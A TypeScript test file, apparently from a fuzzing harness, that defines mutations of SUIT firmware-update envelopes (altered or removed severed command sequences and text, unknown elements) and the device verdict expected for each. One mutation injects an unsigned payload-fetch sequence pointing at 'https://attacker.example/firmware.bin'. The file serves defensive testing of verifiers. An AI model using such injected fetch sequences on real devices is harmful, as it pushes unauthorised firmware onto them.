/** Attacks on what was severed from the manifest, and on what only looks like it. */

import { encodeCborBytes, encodeCborText } from '../../../codec/cbor.ts';
import { byPolicy, type DoesNotApply } from '../../../mutation.ts';
import type { Edit } from '../edit.ts';
import { manifestKeys, sequenceNames } from '../labels.ts';
import { membersWith, type EnvelopeMember } from '../parse.ts';
import {
  attack,
  draft,
  harmless,
  isolatingTriple,
  mustReject,
  type SuitInput,
  type SuitMutation,
} from './common.ts';
import { added, removed } from './payload.ts';

type Maybe = Edit[] | DoesNotApply;

/** The first command sequence that was severed. */
function severedSequence({ image }: SuitInput): EnvelopeMember | undefined {
  const declared = image.manifest?.severed.find(({ label }) => sequenceNames.has(label));
  return declared && membersWith(image.members, declared.label)[0];
}

const noSevered = { doesNotApply: 'no command sequence was severed' };

const severedSequences: SuitMutation[] = [
  ...isolatingTriple(
    {
      id: 'suit-severed-altered',
      kind: 'metadata',
      name: 'with a severed command sequence altered',
      rationale:
        'Severed commands are as powerful as those in the manifest; its digest of them is all that binds them.',
      references: [`${draft}, Integrity Check Values`],
      alter: (input) => {
        const member = severedSequence(input);
        if (member === undefined) return noSevered;
        // The last argument is a reporting policy or the like: the sequence stays one that can be executed.
        const last = member.value.end - 1;
        const old = input.base.read(last, last + 1)[0] ?? 0;
        return [{ start: last, end: last + 1, bytes: Buffer.of(old ^ 1) }];
      },
    },
    'severed',
  ),
  attack({
    id: 'suit-severed-removed',
    kind: 'structure',
    expectation: { class: 'no-crash-only' },
    name: 'without a command sequence that was severed',
    rationale:
      'Legal for a device that has installed already; one that has not can only refuse, or do nothing.',
    references: [`${draft}, Severable Elements`],
    alter: (input) => {
      const member = severedSequence(input);
      return member === undefined ? noSevered : removed(input, member);
    },
  }),
];

const textOf = ({ image }: SuitInput): EnvelopeMember | undefined =>
  image.manifest?.severed.some(({ label }) => label === manifestKeys.text) === true
    ? membersWith(image.members, manifestKeys.text).find(({ value }) => value.end > value.headEnd)
    : undefined;
const noText = { doesNotApply: 'no text was severed' };

const alterText = (input: SuitInput): Maybe => {
  const member = textOf(input);
  if (member === undefined) return noText;
  const at = member.value.end - 1;
  const old = input.base.read(at, at + 1)[0] ?? 0;
  return [{ start: at, end: at + 1, bytes: Buffer.of(old ^ 1) }];
};

const [, textInner, textAll] = isolatingTriple(
  {
    id: 'suit-text-altered',
    kind: 'metadata',
    name: 'with its text for people altered',
    rationale: 'To make an altered text fit, the manifest must change, and that must show.',
    references: [`${draft}, suit-text`],
    alter: alterText,
  },
  'severed',
);

const texts: SuitMutation[] = [
  attack({
    id: 'suit-text-altered-stale-digest',
    kind: 'metadata',
    expectation: harmless,
    invariants: ['signature-kept'],
    name: 'with its text for people altered',
    rationale:
      'A device has no use for the text and may never look at it; one that shows it should check it.',
    references: [`${draft}, suit-text`],
    alter: alterText,
  }),
  ...[textInner, textAll].filter((mutation) => mutation !== undefined),
  attack({
    id: 'suit-text-removed',
    kind: 'structure',
    expectation: harmless,
    invariants: ['signature-kept'],
    name: 'without its text for people',
    rationale: 'What is severable may be severed on the way: a device must live without it.',
    references: [`${draft}, Severable Elements`],
    alter: (input) => {
      const member = textOf(input);
      return member === undefined ? noText : removed(input, member);
    },
  }),
];

/** Refused where the device says so; ignored otherwise, for it must never be executed. */
const undeclared: SuitMutation[] = [
  attack({
    id: 'suit-severed-undeclared',
    kind: 'injection',
    expectation: ({ unsignedMetadata }) => (unsignedMetadata === 'refuse' ? mustReject : harmless),
    invariants: ['signed-kept', 'signature-kept'],
    refusedFor: 'undeclared-member',
    name: 'with a command sequence in its envelope that the manifest has no digest of',
    rationale: 'Commands that nobody signed must never be executed: not even to fetch from elsewhere.',
    references: [`${draft}, Severable Elements`],
    alter: ({ image }) => {
      const used = new Set([
        ...image.members.map(({ key }) => key),
        ...(image.manifest?.severed ?? []).map(({ label }) => label),
      ]);
      if (used.has(16)) return { doesNotApply: 'it has a payload-fetch sequence of its own' };
      // 16 (payload fetch): [override-parameters {uri}, fetch]
      const uri = encodeCborText('https://attacker.example/firmware.bin');
      const sequence = Buffer.concat([Buffer.of(0x84, 0x14, 0xa1, 0x15), uri, Buffer.of(0x15, 0x02)]);
      return added(image, Buffer.concat([Buffer.of(16), encodeCborBytes(sequence)]));
    },
  }),
  attack({
    id: 'suit-element-unknown',
    kind: 'injection',
    expectation: byPolicy('unsignedMetadata', (value) =>
      value === 'refuse' ? mustReject : value === 'ignore' ? harmless : { class: 'no-crash-only' },
    ),
    invariants: ['signed-kept', 'signature-kept'],
    refusedFor: 'undeclared-member',
    name: 'with an element in its envelope that no registry knows',
    rationale: 'Unsigned and unknown: a device ignores it or refuses the whole.',
    references: ['IANA SUIT Envelope Elements'],
    alter: ({ image, random }) => {
      const key = Buffer.of(0x39, 0x03, 0xe7); // −1000, private use
      return added(image, Buffer.concat([key, encodeCborBytes(random('element', 32))]));
    },
  }),
];

export const severedMutations: readonly SuitMutation[] = [...severedSequences, ...texts, ...undeclared];
